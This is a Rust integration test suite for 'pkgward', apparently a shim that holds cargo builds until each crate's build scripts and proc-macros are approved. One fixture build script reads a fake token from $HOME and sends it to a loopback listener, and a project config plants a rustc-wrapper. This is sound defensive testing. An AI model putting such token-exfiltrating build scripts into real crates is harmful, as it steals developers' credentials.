//! cargo's install-time code end to end: the real cargo behind the pkgward
//! shim, the loopback cargo registry, and fixture crates whose build script
//! writes a marker outside `OUT_DIR` and sends a fake token read from
//! `$HOME` to a loopback listener, or that are proc-macros. The shim splits
//! a build into `cargo fetch`, a decision per crate with a build script or
//! proc-macro, and the build with `--offline`: unapproved, nothing is built
//! and nothing of the crate runs; approved, it builds and runs supervised.

mod support;

use std::process::Output;
use std::sync::OnceLock;

use support::guard::{evil, pkgward_bin, text, Guarded};
use support::tools::real_cargo;
use support::{rs_build_marker, shared, Crate};

/// A build script that writes marker `evil-build-rs` outside `OUT_DIR`,
/// and sends `$HOME/.fake-token` to the guard listener.
fn evil_build_rs() -> String {
    let port = evil().port();
    format!(
        "use std::io::Write;\n\
         fn main() {{\n    \
         if let Ok(d) = std::env::var(\"FIXTURE_MARKER_DIR\") {{\n        \
         let _ = std::fs::write(std::path::Path::new(&d).join(\"evil-build-rs\"), \"ran\\n\");\n    \
         }}\n    \
         let home = std::env::var(\"HOME\").unwrap_or_default();\n    \
         let tok = std::fs::read_to_string(format!(\"{{home}}/.fake-token\")).unwrap_or_default();\n    \
         if let Ok(mut s) = std::net::TcpStream::connect((\"127.0.0.1\", {port})) {{\n        \
         let _ = write!(s, \"GET /cargo?t={{}} HTTP/1.0\\r\\n\\r\\n\", tok.trim());\n    \
         }}\n}}\n"
    )
}

/// A proc-macro whose expansion-time code writes marker `evil-macro`.
const EVIL_MACRO: &str = "extern crate proc_macro;\n\
     use proc_macro::TokenStream;\n\
     #[proc_macro]\n\
     pub fn answer(_: TokenStream) -> TokenStream {\n    \
     if let Ok(d) = std::env::var(\"FIXTURE_MARKER_DIR\") {\n        \
     let _ = std::fs::write(std::path::Path::new(&d).join(\"evil-macro\"), \"ran\\n\");\n    \
     }\n    \
     \"42\".parse().unwrap()\n}\n";

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_crate(&Crate::new("pw-cs-evil", "1.0.0").build_script(&evil_build_rs()));
        // A legitimate build script: sets a cfg the library reports.
        r.publish_crate(
            &Crate::new("pw-cs-good", "1.2.0")
                .build_script(
                    "fn main() {\n    \
                     println!(\"cargo:rustc-check-cfg=cfg(fixture_build_ran)\");\n    \
                     println!(\"cargo:rustc-cfg=fixture_build_ran\");\n}\n",
                )
                .lib("pub fn built() -> bool {\n    cfg!(fixture_build_ran)\n}\n"),
        );
        r.publish_crate(
            &Crate::new("pw-cs-macro", "0.3.1")
                .proc_macro()
                .lib(EVIL_MACRO),
        );
        r.publish_crate(&Crate::new("pw-cs-plain", "1.0.0").dep("pw-cs-evil", "1"));
        // A tool installed with `cargo install`.
        r.publish_crate(
            &Crate::new("pw-cs-tool", "0.1.0")
                .dep("pw-cs-good", "1")
                .file(
                    "src/main.rs",
                    "fn main() {\n    println!(\"tool built={}\", pw_cs_good::built());\n}\n",
                ),
        );
        r.publish_crate(
            &Crate::new("pw-cs-evil-tool", "0.1.0")
                .dep("pw-cs-evil", "1")
                .file("src/main.rs", "fn main() {}\n"),
        );
    });
}

fn policy(mode: &str, allow: &[&str]) -> String {
    let url = shared()
        .cargo_index_url()
        .trim_start_matches("sparse+")
        .to_string();
    let allow: Vec<String> = allow.iter().map(|a| format!("{a:?}")).collect();
    format!(
        "mode = \"{mode}\"\n[registries]\ncargo = [\"{url}\"]\n[scripts]\nallow = [{}]\n",
        allow.join(", ")
    )
}

fn guarded(policy: &str) -> Guarded {
    fixtures();
    let g = Guarded::new(policy);
    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("cargo")).unwrap();
    let real = g.real.join("cargo");
    std::fs::write(
        &real,
        format!("#!/bin/sh\nexec '{}' \"$@\"\n", real_cargo().display()),
    )
    .unwrap();
    std::fs::set_permissions(&real, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    g.sb.cargo_config(&shared().cargo.config_replacing_crates_io());
    std::fs::write(g.sb.home.join(".fake-token"), format!("{}\n", token(&g))).unwrap();
    g
}

/// The fake token of this sandbox (unique: the tests run in parallel).
fn token(g: &Guarded) -> String {
    let name = g.sb.root().file_name().unwrap().to_string_lossy();
    format!(
        "tok-cargo-{}",
        name.replace(|c: char| !c.is_ascii_alphanumeric(), "")
    )
}

fn cargo(g: &Guarded, args: &[&str]) -> Output {
    g.sb.command("cargo", &[g.sb.cargo_env(), g.pkgward_env()])
        .args(args)
        .output()
        .unwrap()
}

/// A binary project depending on `deps` (TOML lines), `main` as its main.rs.
fn project(g: &Guarded, deps: &str, main: &str) {
    g.sb.write(
        "Cargo.toml",
        format!(
            "[package]\nname = \"cs-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n{deps}"
        ),
    );
    g.sb.write("src/main.rs", main);
}

fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
    g.audit()
        .into_iter()
        .filter(|r| r["kind"] == "script")
        .collect()
}

/// Whether this sandbox's token reached the guard listener.
fn token_sent(g: &Guarded) -> bool {
    let tok = token(g);
    evil().connections().iter().any(|c| c.text().contains(&tok))
}

#[test]
fn unapproved_build_script_denies_the_build_before_it_runs() {
    let g = guarded(&policy("enforce", &[]));
    project(&g, "pw-cs-plain = \"1\"\n", "fn main() {}\n");
    let out = cargo(&g, &["build"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
        "{err}"
    );
    assert!(
        g.sb.marker("evil-build-rs").is_none(),
        "the build script ran"
    );
    assert!(!token_sent(&g), "the token reached the listener");
    assert!(
        !g.sb.root().join("cargo-target/debug/cs-app").exists(),
        "something was built"
    );
    let recs = scripts(&g);
    let evil_rec = recs
        .iter()
        .find(|r| r["package"] == "pw-cs-evil")
        .expect("a script record for pw-cs-evil");
    assert_eq!(evil_rec["decision"], "deny");
    assert_eq!(evil_rec["ran"], false);
    assert_eq!(evil_rec["ecosystem"], "cargo");
    assert_eq!(evil_rec["version"], "1.0.0");
    assert_eq!(evil_rec["script"], "build-script");
    let exit = g
        .audit()
        .into_iter()
        .rev()
        .find(|r| r["kind"] == "exit")
        .unwrap();
    assert_eq!(exit["exit_code"], 77);
    // The crate was fetched (the fetch step ran), only the build did not.
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
}

#[test]
fn unapproved_proc_macro_denies_the_build() {
    let g = guarded(&policy("enforce", &[]));
    project(
        &g,
        "pw-cs-macro = \"0.3\"\n",
        "fn main() {\n    println!(\"{}\", pw_cs_macro::answer!());\n}\n",
    );
    let out = cargo(&g, &["check"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve cargo:pw-cs-macro@=0.3.1"),
        "{err}"
    );
    assert!(g.sb.marker("evil-macro").is_none());
    let recs = scripts(&g);
    assert!(
        recs.iter().any(|r| r["package"] == "pw-cs-macro"
            && r["script"] == "proc-macro"
            && r["decision"] == "deny"),
        "{recs:#?}"
    );
}

#[test]
fn approved_build_script_and_proc_macro_run_and_are_recorded() {
    let g = guarded(&policy(
        "enforce",
        &["cargo:pw-cs-good@^1.2", "cargo:pw_cs_macro@=0.3.1"],
    ));
    project(
        &g,
        "pw-cs-good = \"1\"\npw-cs-macro = \"0.3\"\n",
        "fn main() {\n    println!(\"built={} answer={}\", pw_cs_good::built(), pw_cs_macro::answer!());\n}\n",
    );
    let out = cargo(&g, &["run", "-q", "--", "ignored-arg"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(text(&out.stdout), "built=true answer=42\n", "{err}");
    let recs = scripts(&g);
    for (pkg, script) in [
        ("pw-cs-good", "build-script"),
        ("pw-cs-macro", "proc-macro"),
    ] {
        let r = recs
            .iter()
            .find(|r| r["package"] == pkg && r["script"] == script)
            .unwrap_or_else(|| panic!("no record for {pkg}: {recs:#?}"));
        assert_eq!(r["decision"], "approved", "{r}");
        assert_eq!(r["ran"], true, "{r}");
        assert_eq!(r["exit_code"], 0, "{r}");
        assert!(
            r["approved_by"].as_str().unwrap().starts_with("cargo:"),
            "{r}"
        );
        let runner: Vec<String> = serde_json::from_value(r["runner"].clone()).unwrap();
        assert!(runner.contains(&"--offline".to_string()), "{runner:?}");
        assert!(runner.contains(&"build".to_string()), "{runner:?}");
    }
    // A second, up-to-date build keeps working (and the user's exit code).
    let out = cargo(&g, &["build", "-q"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // The program's own failure is the user's exit code.
    g.sb.write(
        "src/main.rs",
        "fn main() {\n    std::process::exit(3);\n}\n",
    );
    let out = cargo(&g, &["run", "-q"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
}

#[test]
fn the_projects_own_build_script_runs_as_project_code() {
    let g = guarded(&policy("enforce", &[]));
    project(&g, "", "fn main() {}\n");
    g.sb.write("build.rs", rs_build_marker("own-build-rs"));
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(g.sb.marker("own-build-rs").is_some());
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "cs-app").unwrap();
    assert_eq!(r["decision"], "project");
    assert_eq!(r["path"], ".");
    assert_eq!(r["ran"], true);
}

#[test]
fn dev_and_other_platform_dependencies_count_only_where_they_build() {
    let g = guarded(&policy("enforce", &[]));
    g.sb.write(
        "Cargo.toml",
        "[package]\nname = \"cs-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [dev-dependencies]\npw-cs-evil = \"1\"\n\n\
         [target.'cfg(windows)'.dependencies]\npw-cs-macro = \"0.3\"\n",
    );
    g.sb.write("src/lib.rs", "pub fn f() {}\n");
    // `cargo build` builds neither: it runs.
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // `cargo test` builds the dev-dependency: denied before it runs.
    let out = cargo(&g, &["test"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(err.contains("cargo:pw-cs-evil@=1.0.0"), "{err}");
    assert!(!err.contains("pw-cs-macro"), "{err}");
    assert!(g.sb.marker("evil-build-rs").is_none());
    assert!(!token_sent(&g));
    // So does `cargo build --all-targets`.
    let out = cargo(&g, &["build", "--all-targets"]);
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
}

#[test]
fn audit_mode_builds_and_records_would_deny() {
    let g = guarded(&policy("audit", &[]));
    project(
        &g,
        "pw-cs-good = \"1\"\n",
        "fn main() {\n    println!(\"{}\", pw_cs_good::built());\n}\n",
    );
    let out = cargo(&g, &["run", "-q"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "true\n");
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-cs-good").unwrap();
    assert_eq!(r["decision"], "would-deny");
    assert_eq!(r["ran"], true);
}

#[test]
fn audit_mode_runs_the_evil_build_script() {
    // The control for the denial tests: without enforcement the fixture's
    // effects do happen.
    let g = guarded(&policy("audit", &[]));
    project(&g, "pw-cs-plain = \"1\"\n", "fn main() {}\n");
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(g.sb.marker("evil-build-rs").is_some());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !token_sent(&g) && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(token_sent(&g), "the fixture's token never arrived");
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-cs-evil").unwrap();
    assert_eq!(r["decision"], "would-deny");
}

#[test]
fn cargo_install_from_the_registry_is_checked_before_it_builds() {
    // Unapproved: denied, nothing installed, nothing ran.
    let g = guarded(&policy("enforce", &[]));
    let out = cargo(&g, &["install", "pw-cs-evil-tool"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
        "{err}"
    );
    assert!(g.sb.marker("evil-build-rs").is_none());
    assert!(!token_sent(&g));
    assert!(!g.sb.cargo_home().join("bin/pw-cs-evil-tool").exists());
    // Approved: installed offline after the fetch, and it works.
    let g = guarded(&policy("enforce", &["cargo:pw-cs-good"]));
    let out = cargo(&g, &["install", "pw-cs-tool@0.1.0"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let bin = g.sb.cargo_home().join("bin/pw-cs-tool");
    let run = std::process::Command::new(&bin).output().unwrap();
    assert_eq!(text(&run.stdout), "tool built=true\n");
    let recs = scripts(&g);
    assert!(
        recs.iter().any(|r| r["package"] == "pw-cs-good"
            && r["decision"] == "approved"
            && r["ran"] == true),
        "{recs:#?}"
    );
}

#[test]
fn the_graph_cache_sees_new_dependencies_and_members() {
    let g = guarded(&policy("enforce", &[]));
    g.sb.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"crates/*\"]\nresolver = \"2\"\n",
    );
    let member = |name: &str, deps: &str| {
        g.sb.write(
            &format!("crates/{name}/Cargo.toml"),
            format!(
                "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n{deps}"
            ),
        );
        g.sb.write(&format!("crates/{name}/src/lib.rs"), "pub fn f() {}\n");
    };
    member("cs-a", "");
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // The same build again: answered from the cache.
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let cache = g.state.join("scripts/cargo");
    assert_eq!(std::fs::read_dir(&cache).unwrap().count(), 1);
    // A dependency added to a member's manifest.
    member("cs-a", "pw-cs-plain = \"1\"\n");
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    member("cs-a", "");
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // A new member found by the workspace's glob.
    member("cs-b", "pw-cs-plain = \"1\"\n");
    let out = cargo(&g, &["build"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(err.contains("cargo:pw-cs-evil@=1.0.0"), "{err}");
    assert!(g.sb.marker("evil-build-rs").is_none());
}

/// `cargo clean` (the target directory removed from the project, which
/// changes the project directory) changes nothing `cargo metadata` would
/// say: the graph cache answers the next build (a miss writes it again).
#[test]
fn the_graph_cache_outlives_cargo_clean() {
    let g = guarded(&policy("enforce", &[]));
    g.sb.write(
        "Cargo.toml",
        "[package]\nname = \"cs-root\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    g.sb.write("src/lib.rs", "pub fn f() {}\n");
    // (The first build writes Cargo.lock, a change: the second one fills
    // the cache for the project as it then is.)
    for _ in 0..2 {
        let out = cargo(&g, &["build"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    }
    let cache = g.state.join("scripts/cargo");
    let entry = std::fs::read_dir(&cache)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let written = std::fs::metadata(&entry).unwrap().modified().unwrap();
    // The same build again: answered from the cache.
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::metadata(&entry).unwrap().modified().unwrap(),
        written,
        "the graph cache did not answer an unchanged project"
    );
    // (Wherever CARGO_TARGET_DIR points, the project directory changes.)
    let target = g.sb.work.join("target");
    if !target.exists() {
        std::fs::create_dir(&target).unwrap();
    }
    std::fs::remove_dir_all(&target).unwrap();
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::metadata(&entry).unwrap().modified().unwrap(),
        written,
        "the graph cache did not answer after a clean"
    );
    // A new file in the project directory is a change (conservatively).
    g.sb.write("build.rs", "fn main() {}\n");
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_ne!(
        std::fs::metadata(&entry).unwrap().modified().unwrap(),
        written
    );
}

/// Without a graph cache (a new checkout of the project, a CI job with a
/// restored cargo cache) but with every package of the lockfile already on
/// the machine, the build starts no `cargo fetch`: the offline, locked
/// `cargo metadata` answers. A lockfile that needs a change still fetches
/// (and is decided on what the fetch brought).
#[test]
fn a_build_with_everything_local_starts_no_fetch() {
    let g = guarded(&policy("enforce", &["cargo:pw-cs-good@^1"]));
    project(
        &g,
        "pw-cs-good = \"1\"\n",
        "fn main() {\n    println!(\"built={}\", pw_cs_good::built());\n}\n",
    );
    let fetches = |g: &Guarded| -> usize {
        let audit = g.audit();
        let last = audit
            .iter()
            .rev()
            .find(|r| r["kind"] == "invocation")
            .map(|r| r["invocation_id"].clone())
            .unwrap();
        audit
            .iter()
            .filter(|r| r["kind"] == "process" && r["invocation_id"] == last)
            .filter(|r| {
                r["argv"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|w| w == "fetch"))
            })
            .count()
    };
    let out = cargo(&g, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(fetches(&g) > 0, "the first build fetches");
    let clean = |g: &Guarded| {
        let _ = std::fs::remove_dir_all(g.state.join("scripts/cargo"));
        let _ = std::fs::remove_dir_all(g.sb.work.join("target"));
    };
    clean(&g);
    let out = cargo(&g, &["run", "-q"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout).trim(), "built=true");
    assert_eq!(fetches(&g), 0, "everything was local: no fetch");
    let ran: Vec<_> = scripts(&g)
        .into_iter()
        .filter(|s| s["package"] == "pw-cs-good" && s["ran"] == true)
        .collect();
    assert_eq!(ran.len(), 2, "{ran:?}");
    // A new dependency: the lockfile must change, so the fetch runs and
    // the unapproved build script it brings denies the build.
    clean(&g);
    project(
        &g,
        "pw-cs-good = \"1\"\npw-cs-plain = \"1\"\n",
        "fn main() {}\n",
    );
    let out = cargo(&g, &["build"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(err.contains("cargo:pw-cs-evil@=1.0.0"), "{err}");
    assert!(fetches(&g) > 0);
    assert!(g.sb.marker("evil-build-rs").is_none());
}

/// A publishable project depending on `dep` (a TOML line), with the
/// fixture registry also named `pw` (to publish to).
fn publishable(g: &Guarded, dep: &str) {
    g.sb.write(
        "Cargo.toml",
        format!(
            "[package]\nname = \"cs-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"x\"\n\n[dependencies]\n{dep}"
        ),
    );
    g.sb.write("src/main.rs", "fn main() {}\n");
    g.sb.cargo_config(&format!(
        "{}\n{}",
        shared().cargo.config_replacing_crates_io(),
        shared()
            .cargo
            .config_named("pw")
            .replace("[net]\nretry = 0\n", "")
    ));
}

/// `cargo publish` verifies the package by building it, dependencies'
/// build scripts included: they are decided like a build's, and an
/// approved one is built sandboxed (`cargo package`) before the upload
/// (`publish --no-verify`).
#[test]
fn publish_verification_runs_no_unapproved_build_script() {
    let g = guarded(&policy("enforce", &[]));
    publishable(&g, "pw-cs-plain = \"1\"\n");
    let out = cargo(
        &g,
        &["publish", "--dry-run", "--allow-dirty", "--registry", "pw"],
    );
    let err = text(&out.stderr);
    assert!(
        g.sb.marker("evil-build-rs").is_none(),
        "the build script ran: {err}"
    );
    assert!(!token_sent(&g), "the token reached the listener");
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
        "{err}"
    );

    let g = guarded(&policy("enforce", &["cargo:pw-cs-good"]));
    publishable(&g, "pw-cs-good = \"1\"\n");
    let out = cargo(
        &g,
        &["publish", "--dry-run", "--allow-dirty", "--registry", "pw"],
    );
    let err = text(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("aborting upload due to dry run"), "{err}");
    let rec = scripts(&g)
        .into_iter()
        .find(|r| r["package"] == "pw-cs-good")
        .expect("a record of the approved build script");
    assert_eq!(rec["ran"], true, "{rec}");
    assert!(rec["sandbox"].is_object(), "{rec}");
    assert_eq!(rec["runner"][1], "--offline", "{rec}");
    assert_eq!(rec["runner"][2], "package", "{rec}");
}

/// A repository's `.cargo/config.toml` naming a program to run in rustc's
/// place (`build.rustc-wrapper`) would have cargo run the repository's code
/// in every command, outside the build's sandbox (cargo asks rustc about
/// the target before it resolves): denied before cargo runs. The same in
/// `$CARGO_HOME`'s config (yours, say sccache) runs.
#[test]
fn a_project_cargo_config_cannot_replace_rustc() {
    let g = guarded(&policy("enforce", &[]));
    project(&g, "", "fn main() {}\n");
    let wrapper = g.sb.write(
        "tools/wrap",
        format!(
            "#!/bin/sh\necho ran > '{}/rustc-wrapper'\nexec \"$@\"\n",
            g.sb.markers.display()
        ),
    );
    std::fs::set_permissions(
        &wrapper,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    g.sb.write(
        ".cargo/config.toml",
        format!(
            "[build]\nrustc-wrapper = {:?}\n",
            wrapper.display().to_string()
        ),
    );
    for args in [
        &["build"][..],
        &["metadata", "--format-version", "1"],
        &["clean"],
    ] {
        let out = cargo(&g, args);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(77), "{args:?}: {err}");
        assert!(err.contains("build.rustc-wrapper"), "{err}");
        assert!(
            g.sb.marker("rustc-wrapper").is_none(),
            "{args:?}: the wrapper ran"
        );
    }
    // Nor through an alias of that file that passes `--config` (a
    // `--config` of yours is yours; the repository's alias is not).
    for alias in [
        format!(
            "xb = \"build --config build.rustc-wrapper='{}'\"",
            wrapper.display()
        ),
        "xb = [\"xc\"]\nxc = [\"check\", \"--config=wrap.toml\"]".to_string(),
    ] {
        g.sb.write(".cargo/config.toml", format!("[alias]\n{alias}\n"));
        g.sb.write(
            "wrap.toml",
            format!("[build]\nrustc = {:?}\n", wrapper.display().to_string()),
        );
        let out = cargo(&g, &["xb"]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(77), "{alias}: {err}");
        assert!(err.contains("in an alias's --config"), "{err}");
        assert!(g.sb.marker("rustc-wrapper").is_none(), "{alias}: it ran");
    }
}

/// The first build of a graph whose packages are all on the machine starts
/// while `cargo metadata` tells which crates have build scripts; until the
/// decision nothing it starts may run but rustc's probes. An unapproved
/// build script among them denies the build, which is stopped before it
/// compiled or ran anything: no marker, no token sent.
#[test]
fn a_build_started_before_its_decision_runs_nothing_unapproved() {
    let g = guarded(&policy("enforce", &[]));
    project(&g, "pw-cs-plain = \"1\"\n", "fn main() {}\n");
    // The lockfile and the sources, fetched by the bare cargo (no crate
    // code runs in a fetch).
    let fetched =
        g.sb.command(real_cargo(), &[g.sb.cargo_env()])
            .arg("fetch")
            .output()
            .unwrap();
    assert_eq!(fetched.status.code(), Some(0), "{}", text(&fetched.stderr));
    let out = cargo(&g, &["build"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
        "{err}"
    );
    assert!(g.sb.marker("evil-build-rs").is_none(), "{err}");
    assert!(!token_sent(&g));
    // It was the early build that was stopped: started, then killed; the
    // fetch never ran, no build script was compiled.
    let audit = g.audit();
    let argv = |r: &serde_json::Value| -> Vec<String> {
        r["argv"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|w| w.as_str().unwrap_or("").to_string())
                    .collect()
            })
            .unwrap_or_default()
    };
    let procs: Vec<Vec<String>> = audit
        .iter()
        .filter(|r| r["kind"] == "process")
        .map(argv)
        .collect();
    assert!(
        procs.iter().any(|a| a.iter().any(|w| w == "build")),
        "the build was not started early: {procs:?}"
    );
    assert!(
        !procs.iter().any(|a| a.iter().any(|w| w == "fetch")),
        "{procs:?}"
    );
    assert!(
        !procs.iter().any(|a| a
            .windows(2)
            .any(|w| w[0] == "--crate-name" && w[1] == "build_script_build")),
        "a build script was compiled before the decision: {procs:?}"
    );
    let built = g.sb.root().join("cargo-target/debug/build");
    assert!(
        std::fs::read_dir(&built)
            .map(|d| d
                .flatten()
                .all(|e| !e.path().join("build-script-build").exists()))
            .unwrap_or(true),
        "a build script exists in {}",
        built.display()
    );
}
